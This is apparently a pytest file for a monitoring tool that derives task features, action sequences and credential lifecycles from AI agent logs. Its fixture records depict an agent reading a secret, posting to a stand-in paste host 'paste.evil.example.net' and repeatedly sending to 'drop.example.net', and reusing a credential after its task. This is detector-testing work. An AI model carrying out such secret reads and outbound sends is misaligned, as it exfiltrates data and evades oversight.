"""Derived tables on hand-made tasks: lifecycles, sequences (ordering, ties) and task features."""

from __future__ import annotations

from detectors.derive.tables import build_derived_tables
from tests.conftest import Ingester, native_task


def _act(event_id: str, ts: str, task: str, tool: str, agent: str = "agent-1", **extra) -> dict:
    return {
        "record_type": "action",
        "event_id": event_id,
        "ts": ts,
        "agent_id": agent,
        "task_id": task,
        "tool": tool,
        **extra,
    }


RECORDS = [
    *native_task("t1", "agent-1", "2026-11-02T09:00:00Z", "2026-11-02T09:10:00Z"),
    *native_task("t2", "agent-1", "2026-11-03T22:00:00Z", "2026-11-03T22:30:00Z"),
    {
        "record_type": "credential",
        "event_id": "c1",
        "ts": "2026-11-02T09:00:01Z",
        "event": "issue",
        "credential_ref": "jit-1",
        "task_id": "t1",
        "agent_id": "agent-1",
        "ttl_s": 3600,
    },
    _act(
        "a1",
        "2026-11-02T09:01:00Z",
        "t1",
        "read_file",
        arguments={"path": "/srv/a"},
        credential_ref="jit-1",
    ),
    _act(
        "a2",
        "2026-11-02T09:02:00Z",
        "t1",
        "send_email",
        arguments={"to": "ops@example.com"},
        credential_ref="jit-1",
    ),
    # t2: the same tool again, two new ones, a sensitive read, an external egress, a denial, and the
    # t1 credential used again after t1 ended.
    _act("b2", "2026-11-03T22:01:00Z", "t2", "read_file", arguments={"path": "/srv/b"}),
    _act("b1", "2026-11-03T22:01:00Z", "t2", "get_secret", action_class="read", sensitivity="high"),
    _act(
        "b3",
        "2026-11-03T22:02:00Z",
        "t2",
        "http_post",
        arguments={"url": "https://paste.evil.example.net/x"},
        outcome="denied",
    ),
    _act("b4", "2026-11-03T22:03:00Z", "t2", "spawn_subagent", credential_ref="jit-1"),
]


def test_task_features_count_what_each_task_did(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    rows = {r["task_id"]: r for r in ingest.rows("SELECT * FROM task_features")}
    t1, t2 = rows["t1"], rows["t2"]
    assert (t1["actions"], t1["reads"], t1["egress"], t1["external_egress"]) == (2, 1, 1, 0)
    assert (t1["new_tools"], t1["new_destinations"]) == (
        0,
        0,
    )  # the agent's first task has no baseline
    assert (t1["duration_s"], t1["hour_of_day"], t1["weekday"], t1["credentials_used"]) == (
        600,
        9,
        1,
        1,
    )
    assert (
        t1["max_ttl_s"] == 3600 and t1["max_validity_after_task_s"] == 3001
    )  # 10:00:01 - 09:10:00
    assert (
        t2["actions"],
        t2["sensitive_reads"],
        t2["external_egress"],
        t2["denials"],
        t2["delegations"],
    ) == (4, 1, 1, 1, 1)
    assert t2["new_tools"] == 3  # get_secret, http_post, spawn_subagent; read_file is known
    assert t2["new_destinations"] == 2  # /srv/b and the paste URL
    assert (t2["hour_of_day"], t2["weekday"], t2["distinct_tools"]) == (22, 2, 4)


def test_sequences_are_ordered_with_ties_broken_by_event_id(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    seq = ingest.rows("SELECT * FROM task_sequences WHERE task_id = 't2'")[0]
    assert [a["event_id"] for a in seq["actions"]] == [
        "native:b1",
        "native:b2",
        "native:b3",
        "native:b4",
    ]
    assert seq["class_path"] == "read>read>egress>delegate"


def test_lifecycle_of_a_credential_used_after_itsnative_task(ingest: Ingester):
    ingest.lines("f.jsonl", RECORDS, fmt="native")
    build_derived_tables(ingest.con)
    life = ingest.rows("SELECT * FROM credential_lifecycles")[0]
    assert (life["task_id"], life["uses"], life["uses_after_task_end"], life["distinct_tasks"]) == (
        "t1",
        3,
        1,
        2,
    )
    assert str(life["expires_at"]) == "2026-11-02 10:00:01" and life["ended_by"] == "expired"
    assert life["validity_after_task_s"] == 3001 and life["revoked_at"] is None
    assert life["idle_validity_share"] == 0.0  # it was used right up to (and past) its expiry


def _send(task: str, day: int, to: str, agent: str = "agent-9", **extra) -> list[dict]:
    start = f"2026-11-{day:02d}T10:00:00Z"
    return [
        *native_task(task, agent, start, f"2026-11-{day:02d}T10:05:00Z"),
        _act(f"{task}-r", f"2026-11-{day:02d}T10:01:00Z", task, "read_file", agent=agent),
        _act(
            f"{task}-post",
            f"2026-11-{day:02d}T10:02:00Z",
            task,
            "http_post",
            agent=agent,
            arguments={"url": to},
            **extra,
        ),
    ]


def test_egress_bytes_and_repeated_external_sends(ingest: Ingester):
    drop = "https://drop.example.net/u"
    records = [
        *_send("s1", 2, drop, bytes_out=1200),
        *_send("s2", 4, drop, bytes_out=800),
        *_send("s3", 5, drop),  # no size given: counts 0 bytes
        *_send("s4", 20, drop, bytes_out=10),  # more than 7 days after s1..s3
        *_send("o1", 5, "https://other.example.org/x"),  # a different destination
        *_send("p1", 5, drop, agent="agent-8"),  # another agent
    ]
    ingest.lines("f.jsonl", records, fmt="native")
    build_derived_tables(ingest.con)
    rows = {
        r["task_id"]: (r["egress_bytes"], r["repeat_external_sends"], r["external_egress"])
        for r in ingest.rows("SELECT * FROM task_features")
    }
    assert rows == {
        "s1": (1200, 0, 1),
        "s2": (800, 1, 1),  # s1 sent there 2 days before
        "s3": (0, 2, 1),
        "s4": (10, 0, 1),  # the earlier sends are outside the 7-day window
        "o1": (0, 0, 1),
        "p1": (0, 0, 1),  # agent-9's sends do not count for agent-8
    }


def test_task_sequences_in_passes_equal_one_pass(published_sample):
    """A big history is built in hash buckets of task ids (the list aggregate does not spill):
    several passes give exactly the table one pass gives."""
    import shutil

    import duckdb

    from detectors.derive.tables import build_task_sequences

    copy = published_sample.parent / "derive_passes.duckdb"
    shutil.copy(published_sample.parent / "wh.duckdb", copy)
    con = duckdb.connect(str(copy))
    try:
        one = build_task_sequences(con)
        con.execute("CREATE TABLE one_pass AS SELECT * FROM task_sequences")
        many = build_task_sequences(con, pass_actions=500)
        assert many == one > 100
        differences = con.execute(
            """SELECT count(*) FROM ((SELECT * FROM one_pass EXCEPT ALL SELECT * FROM task_sequences)
               UNION ALL (SELECT * FROM task_sequences EXCEPT ALL SELECT * FROM one_pass))"""
        ).fetchone()[0]
        assert differences == 0
        actions = con.execute(
            "SELECT count(*) FROM agent_actions WHERE task_id IS NOT NULL"
        ).fetchone()[0]
        assert actions > 2 * 500  # several passes really ran
    finally:
        con.close()
        copy.unlink(missing_ok=True)
